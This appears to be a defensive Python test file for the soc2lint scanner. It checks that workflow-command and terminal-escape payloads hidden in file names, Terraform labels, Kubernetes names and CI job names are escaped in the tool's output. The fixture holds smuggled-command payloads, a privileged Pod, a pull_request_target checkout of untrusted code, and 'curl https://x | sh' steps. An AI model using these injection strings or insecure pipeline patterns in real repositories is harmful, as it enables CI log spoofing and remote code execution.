"""Workflow-command injection through the Action's log, and terminal sequences in the CLI's
text output: a file name, a Terraform label or value, a Kubernetes metadata.name, a workflow or
GitLab job name carrying a newline and `::add-mask::`, `::stop-commands::`, `::error ...::`,
`::set-output`, `##[...]` or an ESC sequence never becomes a command or a terminal sequence."""

from __future__ import annotations

import sys
from pathlib import Path

from .harness import limited, soc2lint

PAYLOADS = [
    "::add-mask::secret",
    "::stop-commands::pwned",
    "::error file=evil.tf,line=1::pwned",
    "::set-output name=verdict::pass",
    "##[set-output name=verdict;]pass",
    "\x1b]0;pwned\x07\x1b[2J",
]
PAYLOAD = "x\n" + "\n".join(PAYLOADS) + "\r::warning::pwned"


def _yaml(text: str) -> str:
    """A double-quoted YAML scalar holding text, escapes and all."""
    out = text.replace("\\", "\\\\").replace('"', '\\"')
    out = (
        out.replace("\n", "\\n").replace("\r", "\\r").replace("\x1b", "\\e").replace("\x07", "\\a")
    )
    return f'"{out}"'


def _hcl(text: str) -> str:
    out = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")
    out = out.replace("\x1b", "\\u001b").replace("\x07", "\\u0007")
    return f'"{out}"'


def hostile_repository(root: Path) -> Path:
    (root / ".git").mkdir(parents=True)
    # every platform, each with a crafted name or value that ends up in a finding
    (root / f"evil{PAYLOAD}.tf").write_text('resource "aws_s3_bucket" "a" {}\n')
    (root / "main.tf").write_text(
        f'resource "aws_ebs_volume" {_hcl(PAYLOAD)} {{\n  encrypted = false\n'
        f"  tags = {{ Name = {_hcl(PAYLOAD)} }}\n}}\n"
    )
    (root / "k8s").mkdir()
    (root / "k8s" / "pod.yaml").write_text(
        "apiVersion: v1\nkind: Pod\nmetadata:\n"
        f"  name: {_yaml(PAYLOAD)}\n  namespace: {_yaml(PAYLOAD)}\n"
        "spec:\n  containers:\n    - name: c\n"
        f"      image: {_yaml('nginx' + PAYLOAD)}\n"
        "      securityContext:\n        privileged: true\n"
    )
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text(
        f"name: {_yaml(PAYLOAD)}\non: pull_request_target\njobs:\n  {_yaml(PAYLOAD)}:\n"
        "    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n        with:\n"
        "          ref: ${{ github.event.pull_request.head.sha }}\n"
        f"      - run: {_yaml('curl https://x | sh' + PAYLOAD)}\n"
    )
    (root / ".gitlab-ci.yml").write_text(
        f"{_yaml(PAYLOAD)}:\n  image: {_yaml('alpine' + PAYLOAD)}\n"
        "  script:\n    - curl https://x | sh\n"
    )
    return root


def runner_commands(log: str, honour_stop: bool = True) -> list[str]:
    """The workflow commands the Actions runner would execute in this log: a line that starts
    (after blanks) with `::`, or contains `##[`; `::stop-commands::T` stops them until `::T::`."""
    executed, stopped_by = [], None
    for line in log.splitlines():
        trimmed = line.lstrip()
        if stopped_by is not None:
            if trimmed == f"::{stopped_by}::":
                stopped_by = None
            continue
        if trimmed.startswith("::"):
            executed.append(trimmed)
            if honour_stop and trimmed.startswith("::stop-commands::"):
                stopped_by = trimmed[len("::stop-commands::") :]
        elif "##[" in line:
            executed.append(line[line.index("##[") :])
    return executed


def test_nothing_in_the_repository_becomes_a_workflow_command(tmp_path: Path) -> None:
    repo = hostile_repository(tmp_path / "repo")
    env = {
        "SOC2LINT_FORMAT": "json",
        "SOC2LINT_OUTPUT": "out.json",
        "SOC2LINT_PATH": ".",
        "SOC2LINT_FAIL_ON": "critical",
        "GITHUB_WORKSPACE": str(repo),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_OUTPUT": str(tmp_path / "output.txt"),
    }
    proc = limited([sys.executable, "-m", "soc2lint.integrations.github_action"], cwd=repo, env=env)
    assert proc.returncode == 1, proc.stdout + proc.stderr  # the privileged Pod fails the step
    log = proc.stdout + proc.stderr
    # the scan saw every platform's crafted resource
    for seen in ("aws_ebs_volume", "Pod/", "SOC2-GHA", "SOC2-GLC", "SOC2-K8S"):
        assert seen in log
    commands = runner_commands(log)
    names = {c[2:].split(" ", 1)[0].split("::", 1)[0] for c in commands}
    assert names <= {"stop-commands", "error", "warning", "notice"}, commands
    # soc2lint's own annotations carry the payload as escaped text only: file, line and title
    # (a finding about the repository as a whole: the title alone), no control character, no `##[`
    for command in commands:
        head, _, data = command[2:].partition("::")
        if head.startswith(("error ", "warning ", "notice ")):
            keys = [p.split("=", 1)[0] for p in head.split(" ", 1)[1].split(",")]
            assert keys in (["file", "line", "title"], ["title"]), command
        assert "##[" not in command and "\x1b" not in command and "\x07" not in command
    # and even a runner that ignored stop-commands would execute only soc2lint's lines
    for command in runner_commands(log, honour_stop=False):
        name = command[2:].split(" ", 1)[0].split("::", 1)[0]
        resume = len(name) == 32 and all(ch in "0123456789abcdef" for ch in name)
        assert resume or name in {"stop-commands", "error", "warning", "notice"}, command
        assert not command.startswith("##["), command
    assert "\x1b" not in log and "\x07" not in log
    assert (tmp_path / "output.txt").read_text().count("verdict=") == 1


def test_the_terminal_report_has_no_control_characters_from_the_repository(
    tmp_path: Path,
) -> None:
    repo = hostile_repository(tmp_path / "repo")
    proc = soc2lint("scan", "--no-cache", ".", cwd=repo)
    assert proc.returncode == 1, proc.stderr
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "\r" not in proc.stdout
    # the names are shown, escaped, on one line
    assert "evilx\\n::add-mask::secret\\n" in proc.stdout
    for line in proc.stdout.splitlines():
        assert not line.lstrip().startswith("::"), line
